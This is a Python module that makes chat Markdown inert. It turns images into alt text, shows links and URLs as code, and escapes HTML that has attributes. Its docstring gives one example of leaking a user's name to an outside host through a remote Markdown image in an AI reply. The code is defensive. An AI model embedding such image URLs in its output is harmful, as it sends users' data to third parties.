"""Inert chat Markdown: nothing an answer, a tool step or a quoted passage contains can make the browser fetch a
URL (a remote image such as `![x](http://host/p.png?who=Priya)` would leak the names restored in the reply).
Images become their alt text, links and bare URLs are shown as code, and raw HTML other than a few plain tags
without attributes is escaped.
"""

from __future__ import annotations

import re
from typing import Any

# Plain tags the app itself writes (sources use <details><summary>); allowed only without attributes.
SAFE_TAGS = frozenset(
    "details summary br b i em strong code pre p ul ol li blockquote sub sup kbd hr h1 h2 h3 h4 h5 h6 table thead "
    "tbody tr th td del s".split()
)
_PAREN = r"(?:[^()\n]|\([^()\n]*\))*"
TOKEN_RE = re.compile(
    rf"""(?P<code>(?P<ticks>`+)(?:(?!(?P=ticks)).)+?(?P=ticks))
    |(?P<image>!\[(?P<alt>[^\]\n]*)\](?:\({_PAREN}\)|\[[^\]\n]*\]))
    |(?P<link>\[(?P<text>[^\]\n]*)\]\((?P<dest>{_PAREN})\))
    |(?P<refdef>^[ ]{{0,3}}\[(?P<label>[^\]\n]+)\]:[ \t]*(?P<refurl>\S*)[^\n]*)
    |(?P<autolink><(?P<auto>[a-zA-Z][\w+.-]*:[^<>\s]*)>)
    |(?P<tag><\s*/?\s*(?P<name>[a-zA-Z][\w-]*)(?P<attrs>[^<>]*)>)
    |(?P<lt><(?=[\s/!?a-zA-Z]))
    |(?P<url>\b(?:https?|ftp|data|javascript):[^\s<>`]+|\bwww\.[^\s<>`]+)""",
    re.IGNORECASE | re.MULTILINE | re.VERBOSE,
)
MAX_PASSES = 5


def _as_code(url: str) -> str:
    cleaned = url.strip().strip("<>").replace("`", "")
    return f"`{cleaned}`" if cleaned else ""


def _replace(m: re.Match[str]) -> str:
    kind = m.lastgroup  # the outer alternative: each one closes after the groups nested in it
    if kind == "code":
        return m.group(0)
    if kind == "image":
        alt = m.group("alt").strip()
        return f"{alt} (image not shown)" if alt else "(image not shown)"
    if kind == "link":
        dest = (m.group("dest").strip().split() or [""])[0]
        return " ".join(p for p in (m.group("text").strip(), f"({_as_code(dest)})" if _as_code(dest) else "") if p)
    if kind == "refdef":
        return f"{m.group('label')}: {_as_code(m.group('refurl'))}"
    if kind == "autolink":
        return _as_code(m.group("auto"))
    if kind == "tag":
        if m.group("name").lower() in SAFE_TAGS and m.group("attrs").strip() in ("", "/"):
            return m.group(0)
        return "&lt;" + m.group(0)[1:]
    if kind == "lt":
        return "&lt;"
    return _as_code(m.group(0))


def inert_markdown(text: str) -> str:
    """Markdown that renders the same words but never loads or links to a URL."""
    for _ in range(MAX_PASSES):
        updated = TOKEN_RE.sub(_replace, text)
        if updated == text:
            break
        text = updated
    # Whatever survived the passes (pathological nesting) is escaped so it can be neither image nor link.
    return re.sub(r"(?<!\\)\]\(", r"]\\(", text.replace("![", "!\\["))


def inert_message(message: Any) -> Any:
    """A chat message (gr.ChatMessage or dict) whose text content has been made inert."""
    if isinstance(message, dict):
        content = message.get("content")
        return {**message, "content": inert_markdown(content)} if isinstance(content, str) else message
    if isinstance(getattr(message, "content", None), str):
        message.content = inert_markdown(message.content)
    return message
